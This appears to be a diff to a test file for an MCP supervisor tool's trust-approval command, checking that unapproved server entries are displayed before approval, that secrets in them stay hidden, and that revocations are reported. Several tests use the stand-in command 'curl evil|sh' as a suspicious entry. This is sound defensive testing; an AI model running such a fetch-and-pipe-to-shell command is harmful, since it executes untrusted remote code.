@@ -111,7 +111,7 @@ describe.concurrent("trust", () => {
       assert.include(asked.stderr, text)
     }
     const shown = ok(await here.run(["config"]))
-    for (const text of ["sh -c 'curl evil|sh'", "untrusted"]) assert.include(shown, text)
+    assert.include(shown, "untrusted")
     const done = await here.run(["trust", "--yes", "--json"])
     assert.deepInclude(JSON.parse(ok(done)).files[0].entries[0], { name: "x", change: "new" })
     // nothing new: nothing to ask
@@ -136,5 +136,45 @@ describe.concurrent("trust", () => {
     assert.include(ok(await here.run(["config"])), "untrusted")
     ok(await here.onTerminal(["trust"], [["y/N", "y\r"]]))
     assert.notInclude(ok(await here.run(["config"])), "untrusted")
+  })
+
+  it.runIf(hasTerminal)("shows what it asks about, also with --json (security L4)", async () => {
+    const here = await newPlace()
+    writeFileSync(join(here.project, "mcp-supervisor.json"), JSON.stringify({ mcp: suspicious }))
+    const { code, stdout } = await here.onTerminal(["trust", "--json"], [["y/N", "\r"]])
+    assert.strictEqual(code, 1, stdout)
+    assert.isAtLeast(stdout.indexOf("y/N"), stdout.indexOf("curl evil|sh"))
+    assert.include(stdout, "curl evil|sh")
+    const alone = await here.run(["trust", "--json"])
+    assert.deepStrictEqual([alone.code, alone.stdout], [2, ""])
+    assert.include(alone.stderr, "curl evil|sh")
+  })
+
+  it("config shows no part of an entry that is not approved, and points to trust (security L4)", async () => {
+    const here = await newPlace()
+    const environment = { DATABASE_URL: "postgres://admin:S3cr3tPw@db.corp/x", PW: "correct horse battery" }
+    const command = ["true", "--token", "hunter2hunter2"]
+    writeFileSync(join(here.project, "mcp-supervisor.json"), JSON.stringify({ mcp: { x: { command, environment } } }))
+    const { stderr, stdout } = await here.run(["config"])
+    assert.notMatch(stdout + stderr, /hunter2|S3cr3tPw|correct horse/)
+    assert.include(stderr, "not approved yet: x; to see what they do, and decide: mcp-supervisor trust")
+  })
+
+  it("says which approvals it took back, and claims none that it did not store (security L4)", async () => {
+    const here = await newPlace()
+    const sub = join(here.project, "sub")
+    mkdirSync(join(here.project, ".git"))
+    mkdirSync(sub)
+    const file = join(here.project, "mcp-supervisor.json")
+    writeFileSync(file, JSON.stringify({ mcp: suspicious }))
+    ok(await here.run(["trust", "--yes"]))
+    const revoked = [here.project, file].map((path) => `took back the approval of ${path}\n`).join("")
+    assert.strictEqual(ok(await here.run(["trust", "--revoke"], { cwd: sub })), revoked)
+    ok(await here.run(["trust", "--yes"]))
+    const asData = ok(await here.run(["trust", "--revoke", "--json"], { cwd: sub }))
+    assert.deepStrictEqual(JSON.parse(asData), { revoked: [here.project, file] })
+    const atHome = await here.run(["trust", "--yes"], { cwd: here.directory })
+    assert.strictEqual(ok(atHome), "")
+    assert.include(atHome.stderr, "nothing to approve")
   })
 })
